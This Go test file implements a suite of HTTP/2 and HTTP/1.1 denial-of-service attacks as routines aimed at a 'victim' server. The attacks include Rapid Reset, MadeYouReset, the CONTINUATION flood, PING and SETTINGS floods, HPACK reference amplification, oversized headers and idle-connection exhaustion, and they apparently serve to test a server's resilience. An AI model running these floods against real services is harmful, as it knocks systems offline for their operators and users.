// SPDX-FileCopyrightText: The Leat Authors
// SPDX-License-Identifier: Apache-2.0

//go:build linux

package attack_test

import (
	"bytes"
	"context"
	"strings"

	"golang.org/x/net/http2"
)

// trivial is a path that costs a server almost nothing, whether it exists or not.
const trivial = "/healthz"

// rapidReset opens streams and resets each at once (CVE-2023-44487).
func rapidReset(ctx context.Context, v *victim) {
	v.flood(ctx, func(f *frames) error {
		id, err := f.request(true, "GET", trivial)
		if err != nil {
			return err
		}
		return f.queue(func() error { return f.WriteRSTStream(id, http2.ErrCodeCancel) })
	})
}

// madeYouReset opens streams and makes the server reset each, with a WINDOW_UPDATE of zero
// (CVE-2025-8671).
func madeYouReset(ctx context.Context, v *victim) {
	v.flood(ctx, func(f *frames) error {
		id, err := f.request(false, "POST", trivial)
		if err != nil {
			return err
		}
		return f.queue(func() error { return f.WriteRawFrame(http2.FrameWindowUpdate, 0, id, make([]byte, 4)) })
	})
}

// flood sends frames as fast as the connection accepts them, and reads what the server sends.
func (v *victim) flood(ctx context.Context, next func(f *frames) error) {
	v.each(ctx, func(ctx context.Context) error {
		f, err := v.http2(ctx)
		if err != nil {
			return err
		}
		defer f.Close()
		f.answer()
		for {
			if err := next(f); err != nil {
				return err
			}
		}
	})
}

// continuation begins a head that never ends, in fragments of about size bytes (CVE-2024-27316).
func continuation(size int) func(context.Context, *victim) {
	// These fields are not added to HPACK's table: a name of one byte, and a value of five.
	one := append([]byte{0, 1, 'a', 5}, "value"...)
	fragment := bytes.Repeat(one, size/len(one))
	return func(ctx context.Context, v *victim) {
		v.each(ctx, func(ctx context.Context) error {
			f, err := v.http2(ctx)
			if err != nil {
				return err
			}
			defer f.Close()
			f.answer()
			id := f.next()
			if err := f.queue(func() error {
				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: f.head("GET", trivial), EndStream: true})
			}); err != nil {
				return err
			}
			for {
				if err := f.queue(func() error { return f.WriteContinuation(id, false, fragment) }); err != nil {
					return err
				}
			}
		})
	}
}

// pings floods with PINGs, each of which the server must answer (CVE-2019-9512).
func pings(ctx context.Context, v *victim) {
	v.flood(ctx, func(f *frames) error {
		return f.queue(func() error { return f.WritePing(false, [8]byte{}) })
	})
}

// pingsUnread floods with PINGs and reads no answer.
func pingsUnread(ctx context.Context, v *victim) {
	v.each(ctx, func(ctx context.Context) error {
		f, err := v.http2(ctx)
		if err != nil {
			return err
		}
		defer f.Close()
		narrow(f.Conn)
		for {
			if err := f.queue(func() error { return f.WritePing(false, [8]byte{}) }); err != nil {
				return err
			}
		}
	})
}

// settings floods with SETTINGS, each of which the server must acknowledge (CVE-2019-9515).
func settings(ctx context.Context, v *victim) {
	v.flood(ctx, func(f *frames) error {
		return f.queue(func() error { return f.WriteSettings(http2.Setting{ID: http2.SettingEnablePush}) })
	})
}

// hpackReferences adds a large field to HPACK's table once, and then refers to it thousands of
// times in each head, with one byte each.
func hpackReferences(ctx context.Context, v *victim) {
	large := strings.Repeat("v", 3900)
	const newest = 0x80 | 62 // the entry that was added last
	references := bytes.Repeat([]byte{newest}, 15<<10)
	v.each(ctx, func(ctx context.Context) error {
		f, err := v.http2(ctx)
		if err != nil {
			return err
		}
		defer f.Close()
		f.answer()
		if _, err := f.request(true, "GET", trivial, "x", large); err != nil {
			return err
		}
		for {
			id := f.next()
			if err := f.queue(func() error {
				// GET, http and / from the static table; then the references.
				block := append([]byte{0x82, 0x86, 0x84}, references...)
				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
			}); err != nil {
				return err
			}
		}
	})
}

// hugeHeads sends heads of many megabytes that HPACK cannot compress, over HTTP/2 and over
// HTTP/1.1.
func hugeHeads(ctx context.Context, v *victim) {
	line := strings.Repeat("h", 60<<10)
	const size = 16_000
	continued := append([]byte{0, 1, 'h', 0x7f, (size-127)%128 | 0x80, (size - 127) / 128}, bytes.Repeat([]byte{'h'}, size)...)
	v.each(ctx, func(ctx context.Context) error {
		conn, err := v.http1(ctx, "GET "+trivial+" HTTP/1.1\r\nHost: "+v.addr+"\r\n")
		if err != nil {
			return err
		}
		for err == nil {
			_, err = conn.Write([]byte("X-Huge: " + line + "\r\n"))
		}
		_ = conn.Close()
		f, err := v.http2(ctx)
		if err != nil {
			return err
		}
		defer f.Close()
		f.answer()
		id := f.next()
		err = f.send(func() error {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: f.head("GET", trivial), EndStream: true})
		})
		for err == nil {
			err = f.queue(func() error { return f.WriteContinuation(id, false, continued) })
		}
		return err
	})
}

// idle opens connections and sends nothing more.
func idle(ctx context.Context, v *victim) {
	v.each(ctx, func(ctx context.Context) error {
		f, err := v.http2(ctx)
		if err != nil {
			return err
		}
		defer f.Close()
		return f.held(ctx)
	})
}

// idleHeads opens connections and begins a HEADERS frame on each.
func idleHeads(ctx context.Context, v *victim) {
	v.each(ctx, func(ctx context.Context) error {
		f, err := v.http2(ctx)
		if err != nil {
			return err
		}
		defer f.Close()
		const head = "\x00\x3f\x00\x01\x05\x00\x00\x00\x01" // announces 16,128 bytes of HEADERS for stream 1, which are never sent
		if err := f.send(func() error { _, err := f.buffer.WriteString(head); return err }); err != nil {
			return err
		}
		return f.held(ctx)
	})
}

// held keeps the connection open until the attack ends or the server closes it.
func (f *frames) held(ctx context.Context) error {
	select {
	case <-f.answer():
		return errClosed
	case <-ctx.Done():
		return nil
	}
}

// endless opens as many unfinished streams as a connection may have.
func endless(ctx context.Context, v *victim) {
	v.each(ctx, func(ctx context.Context) error {
		f, err := v.http2(ctx)
		if err != nil {
			return err
		}
		defer f.Close()
		for range streamsPerConnection {
			id, err := f.request(false, "POST", "/grpc.health.v1.Health/Watch", "content-type", "application/grpc+proto", "te", "trailers")
			if err != nil {
				return err
			}
			if err := f.queue(func() error { return f.WriteData(id, true, make([]byte, 5)) }); err != nil { // an empty message
				return err
			}
		}
		if err := f.send(func() error { return nil }); err != nil {
			return err
		}
		return f.held(ctx)
	})
}
